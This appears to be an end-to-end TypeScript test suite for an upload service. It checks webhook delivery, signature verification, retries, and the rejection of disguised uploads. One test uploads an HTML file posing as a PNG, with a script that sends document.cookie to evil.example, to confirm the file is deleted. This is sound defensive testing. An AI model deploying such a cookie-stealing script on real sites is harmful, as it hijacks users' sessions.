/**
 * upload-completed end to end on `npm start`, as a user runs it with a receiver of their own: the OSS emulator
 * emits ObjectCreated events, the dev stack invokes the function asynchronously with FC's retries, and the
 * receiver verifies every delivery with the `standardwebhooks` package.
 */
import OSS from 'ali-oss';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Webhook } from 'standardwebhooks';
import { samplePng } from '../../local/sample-files';
import type { UploadWebhook } from '../../shared/contract';
import { registerAnswer, registerIssued } from '../support/log-capture';
import { npmStart, type StartedStack } from '../support/npm-start';

const SECRET = `whsec_${Buffer.alloc(32, 9).toString('base64')}`;
registerIssued(SECRET);

interface Received {
  id: string;
  verified: boolean;
  message: UploadWebhook;
  status: number;
}

let stack: StartedStack;
let receiver: Server;
const received: Received[] = [];
/** Keys whose first deliveries the receiver fails, and how many. */
const failFirst = new Map<string, number>();

beforeAll(async () => {
  const verifier = new Webhook(SECRET);
  receiver = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      let verified = true;
      try {
        verifier.verify(body, req.headers as Record<string, string>);
      } catch {
        verified = false;
      }
      const message = JSON.parse(body) as UploadWebhook;
      const failures = failFirst.get(message.data.key) ?? 0;
      failFirst.set(message.data.key, failures - 1);
      const status = failures > 0 ? 500 : 200;
      received.push({ id: String(req.headers['webhook-id']), verified, message, status });
      res.writeHead(status).end();
    });
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  stack = await npmStart({
    UPLOAD_WEBHOOK_URL: `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hooks/uploads`,
    UPLOAD_WEBHOOK_SECRET: SECRET,
  });
}, 90_000);
afterAll(async () => {
  await stack?.stop();
  await new Promise((resolve) => receiver.close(resolve));
});

async function call(name: string, user: string, body: unknown): Promise<Record<string, unknown>> {
  const { token } = (await (await fetch(`${stack.url}/api/dev-token?user=${user}`)).json()) as { token: string };
  registerIssued(token);
  const response = await fetch(`${stack.url}/api/${name}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  const answer = (await response.json()) as Record<string, unknown>;
  registerAnswer(answer);
  expect(response.status).toBe(200);
  return answer;
}

async function stored(key: string): Promise<boolean> {
  const listing = (await (await fetch(`${stack.url}/api/dev-objects?prefix=${encodeURIComponent(key)}`)).json()) as {
    objects: Array<{ key: string }>;
  };
  return listing.objects.some((object) => object.key === key);
}

async function until(condition: () => boolean | Promise<boolean>, seconds: number): Promise<void> {
  const deadline = Date.now() + seconds * 1000;
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error(`not within ${seconds} s`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

const deliveriesFor = (key: string): Received[] => received.filter((delivery) => delivery.message.data.key === key);

test('an STS upload of HTML bytes named .png is gone within seconds, and the receiver got upload.rejected', async () => {
  const answer = await call('sts-token', 'mallory', {});
  const client = new OSS(answer as unknown as OSS.Options);
  const key = `${String(answer['prefix'])}innocent.png`;
  await client.put(key, Buffer.from('<!doctype html><html><script>document.location="https://evil.example/?"+document.cookie</script>'), {
    mime: 'image/png',
  });
  await until(async () => !(await stored(key)), 10);
  await until(() => deliveriesFor(key).length > 0, 10);
  const [delivery] = deliveriesFor(key);
  expect(delivery).toMatchObject({
    verified: true,
    message: { type: 'upload.rejected', data: { key, user: 'mallory', reason: 'ActiveContent' } },
  });
}, 30_000);

test('a valid signed PUT stays, and the receiver got exactly one upload.completed with a valid signature', async () => {
  const body = samplePng(2048);
  const signed = (await call('sign-url', 'alice', { filename: 'cat.png', contentType: 'image/png', size: body.length })) as {
    url: string;
    headers: Record<string, string>;
    key: string;
  };
  expect((await fetch(signed.url, { method: 'PUT', headers: signed.headers, body })).status).toBe(200);
  await until(() => deliveriesFor(signed.key).length > 0, 10);
  await new Promise((resolve) => setTimeout(resolve, 1500)); // time for a duplicate to show up, if there were one
  expect(deliveriesFor(signed.key)).toEqual([
    expect.objectContaining({ verified: true, status: 200, message: expect.objectContaining({ type: 'upload.completed' }) }),
  ]);
  expect(deliveriesFor(signed.key)[0]!.message.data).toMatchObject({
    key: signed.key,
    user: 'alice',
    size: body.length,
    contentType: 'image/png',
  });
  expect(await stored(signed.key)).toBe(true);
}, 30_000);

test('a receiver that answers 500 twice then 200 gets three deliveries with the same webhook-id', async () => {
  const body = samplePng(1500);
  const signed = (await call('sign-url', 'bob', {
    filename: 'retry.png',
    contentType: 'image/png',
    size: body.length,
    method: 'POST',
  })) as {
    url: string;
    fields: Record<string, string>;
    key: string;
  };
  failFirst.set(signed.key, 2);
  const form = new FormData();
  for (const [name, value] of Object.entries(signed.fields)) form.append(name, value);
  form.append('file', new Blob([body], { type: 'image/png' }), 'retry.png');
  expect((await fetch(signed.url, { method: 'POST', body: form })).ok).toBe(true);
  await until(() => deliveriesFor(signed.key).length >= 3, 15);
  const deliveries = deliveriesFor(signed.key);
  expect(deliveries.map((delivery) => delivery.status)).toEqual([500, 500, 200]);
  expect(new Set(deliveries.map((delivery) => delivery.id)).size).toBe(1);
  expect(deliveries.every((delivery) => delivery.verified)).toBe(true);
  expect(await stored(signed.key)).toBe(true);
}, 30_000);
